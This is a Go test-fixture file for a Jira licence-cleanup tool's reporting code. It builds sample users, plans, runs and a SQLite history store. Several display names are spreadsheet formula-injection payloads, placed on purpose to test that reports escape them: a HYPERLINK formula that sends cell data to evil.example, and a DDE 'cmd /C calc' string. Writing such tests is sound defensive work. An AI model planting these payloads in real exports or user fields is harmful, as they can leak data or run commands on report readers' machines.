package reporttest

import (
	"context"
	"errors"
	"path/filepath"
	"time"

	"github.com/seatwarden/seatwarden/actions"
	"github.com/seatwarden/seatwarden/jira"
	"github.com/seatwarden/seatwarden/report"
	"github.com/seatwarden/seatwarden/report/history"
	"github.com/seatwarden/seatwarden/report/insights"
)

// T0 is the instant the fixture's run starts.
var T0 = time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)

// Fixture returns a run of two policies on a DC site with every outcome,
// and users whose names try formula injection.
func Fixture() (*report.Report, *actions.Plan) {
	alice := actions.Identity{Key: "JIRAUSER10001", Name: "alice", Email: "alice@example.com", DisplayName: "Alice Liddell"}
	bob := actions.Identity{Key: "JIRAUSER10002", Name: "bob", Email: "bob@example.com", DisplayName: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"}
	carol := actions.Identity{Key: "JIRAUSER10003", Name: "carol", Email: "carol@example.org", DisplayName: "@SUM(1+1)*cmd|' /C calc'!A0"}
	plan := &actions.Plan{
		ID: "plan-1", Created: T0, Flavor: jira.DataCenter, Site: "https://jira.example.com",
		Policies: []actions.PolicyRef{{Name: "inactive-90-days", Hash: "h1"}, {Name: "contractors", Hash: "h2"}},
		Users: []actions.UserPlan{
			{User: alice, Policies: []string{"inactive-90-days"}, Steps: []actions.Step{{Kind: actions.KindRemoveGroup, Group: "jira-software-users"}, {Kind: actions.KindDeactivate}},
				Why: []actions.Reason{{Policy: "inactive-90-days", Explanation: "daysSinceLastLogin > 90: 214 > 90 ✓"}}},
			{User: bob, Policies: []string{"contractors", "inactive-90-days"}, Steps: []actions.Step{{Kind: actions.KindDeactivate}},
				NoOps: []actions.Step{{Kind: actions.KindRemoveGroup, Group: "contractors", NoOp: "not a member"}},
				Why:   []actions.Reason{{Policy: "contractors", Explanation: "inGroup(\"contractors\") ✓"}}},
			{User: carol, Policies: []string{"inactive-90-days"}, Steps: []actions.Step{{Kind: actions.KindRevokeLicence, Licence: "jira-software"}}},
		},
		Exempt: []actions.Exempted{{User: actions.Identity{Name: "admin", DisplayName: "-2+3"}, Policy: "inactive-90-days", Reason: "protected: jira-administrators"}},
	}
	run := &actions.Run{ID: "run-1", PlanID: "plan-1", Started: T0, Finished: T0.Add(90 * time.Second),
		Results: []actions.Result{
			{StepID: "JIRAUSER10001#0", User: alice, Step: plan.Users[0].Steps[0], Outcome: actions.Applied},
			{StepID: "JIRAUSER10001#1", User: alice, Step: plan.Users[0].Steps[1], Outcome: actions.Applied},
			{StepID: "JIRAUSER10002#0", User: bob, Step: plan.Users[1].Steps[0], Outcome: actions.Stale, Message: "logged in since the plan"},
			{StepID: "JIRAUSER10003#0", User: carol, Step: plan.Users[2].Steps[0], Outcome: actions.Failed,
				Err: errors.New("jira: PUT /rest/api/2/user: 403: read-only directory"), Error: "jira: PUT /rest/api/2/user: 403: read-only directory"},
		}}
	run.Counts = map[actions.Outcome]int{actions.Applied: 2, actions.Stale: 1, actions.Failed: 1}
	r := report.FromRun(run, plan)
	r.ApprovalIssue = "OPS-7"
	return r, plan
}

// Users returns a small site: the fixture's users and some more.
func Users() []jira.User {
	ll := func(days int) jira.LastLogin { return jira.LoggedInAt(T0.AddDate(0, 0, -days)) }
	n := 7
	return []jira.User{
		{Key: "JIRAUSER10001", Name: "alice", Email: "alice@example.com", DisplayName: "Alice Liddell", Active: true,
			Licences: []string{"jira-software"}, Created: T0.AddDate(-3, 0, 0), LastLogin: ll(214), LoginCount: &n},
		{Key: "JIRAUSER10002", Name: "bob", Email: "bob@example.com", DisplayName: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", Active: true,
			Licences: []string{"jira-software", "jira-servicedesk"}, Groups: []string{"contractors"}, Created: T0.AddDate(-1, 0, 0), LastLogin: ll(3)},
		{Key: "JIRAUSER10003", Name: "carol", Email: "carol@example.org", DisplayName: "@SUM(1+1)*cmd|' /C calc'!A0", Active: true,
			Licences: []string{"jira-software"}, Created: T0.AddDate(0, -2, 0), LastLogin: jira.NeverLoggedIn()},
		{Key: "JIRAUSER10004", Name: "dave", Email: "dave@example.com", DisplayName: "Dave", Active: false,
			Created: T0.AddDate(-2, 0, 0), LastLogin: ll(400)},
		{Key: "JIRAUSER10005", Name: "erin", Email: "erin@example.com", DisplayName: "Erin", Active: true,
			Licences: []string{"jira-software"}, Created: T0.AddDate(-2, 0, 0), LastLogin: ll(40)},
		{Key: "JIRAUSER10006", Name: "bot", DisplayName: "Automation", Active: true, AccountType: jira.AccountApp},
	}
}

// InactiveFor is a policy for simulations (an insights.MatcherAt): the
// active users who logged in more than InactiveFor days ago.
type InactiveFor int

// MatchAt reports whether u, as of now, logged in more than d days ago.
func (d InactiveFor) MatchAt(u *jira.User, now time.Time) (bool, error) {
	l := u.LastLogin
	return u.Active && l.Known && !l.Never() && now.Sub(l.Time) > time.Duration(d)*24*time.Hour, nil
}

// StoredReport returns the fixture's report with insights built from a
// history store (a SQLite file in dir) holding a snapshot and the run:
// levels from history and reconstruction, a licence with its seats, the
// simulation of InactiveFor(90), and PNG charts when png is set.
func StoredReport(ctx context.Context, dir string, png bool) (*report.Report, error) {
	s, err := history.OpenSQLite(ctx, filepath.Join(dir, "history.db"))
	if err != nil {
		return nil, err
	}
	defer s.Close()
	r, plan := Fixture()
	r.Users = Users()
	if err := s.SaveRun(ctx, r); err != nil {
		return nil, err
	}
	if err := s.SaveSnapshot(ctx, report.SnapshotSummary{Site: r.Site, Day: T0.AddDate(0, 0, -1), Taken: T0.AddDate(0, 0, -1),
		Total: 1500, Active: 1234, Inactive: 266, NeverLoggedIn: 56, LoginUnknown: 4,
		LastLogin: map[string]int{"d0_30": 700, "d31_90": 111, "d91_180": 300, "d181_365": 63},
		Licensed:  map[string]int{"jira-software": 1100}}); err != nil {
		return nil, err
	}
	days, err := s.Snapshots(ctx, r.Site, T0.AddDate(-2, 0, 0), T0)
	if err != nil {
		return nil, err
	}
	runs, err := s.Runs(ctx, r.Site, T0.AddDate(0, -1, 0), T0.AddDate(0, 0, 1))
	if err != nil {
		return nil, err
	}
	in, err := insights.New(ctx, insights.Options{Site: r.Site, Flavor: jira.DataCenter, Now: T0,
		Users: r.Users, History: days, Runs: runs, Plan: plan,
		Seats:    []insights.Seats{{Application: "jira-software", Used: 1100, Limit: 2000}},
		Simulate: InactiveFor(90), SimulateName: "inactive-90-days", PNG: png})
	if err != nil {
		return nil, err
	}
	r.Insights = in
	return r, nil
}
